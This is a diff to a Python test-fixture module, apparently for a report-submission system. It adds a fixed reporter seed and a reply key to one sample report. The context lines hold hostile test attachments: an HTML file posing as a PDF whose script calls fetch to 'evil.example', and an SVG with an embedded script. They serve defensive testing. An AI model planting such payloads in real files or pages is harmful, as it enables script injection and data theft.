@@ -8,6 +8,7 @@ pretend to be PDFs: an HTML page and an SVG with a script.
 
 from __future__ import annotations
 
+import base64
 import mimetypes
 from pathlib import Path
 
@@ -22,11 +23,14 @@ HTML_AS_PDF = b"<!doctype html><html><body><script>fetch('http://evil.example/')
 SVG_AS_PDF = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
               b'<script>alert(1)</script><rect width="10" height="10"/></svg>\n')
 PHOTO = "foto-vehiculo-danado.jpg"
+REPORTER_SEED = bytes(range(32))
+"""The receipt seed of the second sample's reporter (its report has a reply key)."""
 
 
 def sample_submissions(key: keys.SecretKey) -> list:
     """One submission per sample report (received on distinct days), the first
-    with two extra hostile attachments named ``informe.pdf`` and ``acta.pdf``."""
+    with two extra hostile attachments named ``informe.pdf`` and ``acta.pdf``,
+    the second with a reply key (``reply_to``, from :data:`REPORTER_SEED`)."""
     subs = []
     for index, sample in enumerate(all_reports()):
         files = [(path.name, path.read_bytes()) for path in sample.attachments]
@@ -36,6 +40,9 @@ def sample_submissions(key: keys.SecretKey) -> list:
                               received_on=f"2026-11-{20 + index:02d}")
         for entry in sub.report["attachments"]:
             entry["content_type"] = mimetypes.guess_type(entry["filename"])[0] or "application/octet-stream"
+        if index == 1:  # sent with a receipt: the reviewers can reply
+            sub.report["reply_to"] = {"kind": "xwing", "public_key": base64.b64encode(
+                keys.XWingSecretKey(REPORTER_SEED).public_key.raw).decode("ascii")}
         sub.seal_all([key.public_key])
         subs.append(sub)
     return subs
@@ -56,4 +63,4 @@ def make_cases(directory: Path, key: keys.SecretKey) -> tuple[Path, list]:
     return directory / "cases", subs
 
 
-__all__ = ["HTML_AS_PDF", "PHOTO", "SAMPLES", "SVG_AS_PDF", "make_bundle", "make_cases", "sample_submissions"]
+__all__ = ["HTML_AS_PDF", "PHOTO", "REPORTER_SEED", "SAMPLES", "SVG_AS_PDF", "make_bundle", "make_cases", "sample_submissions"]
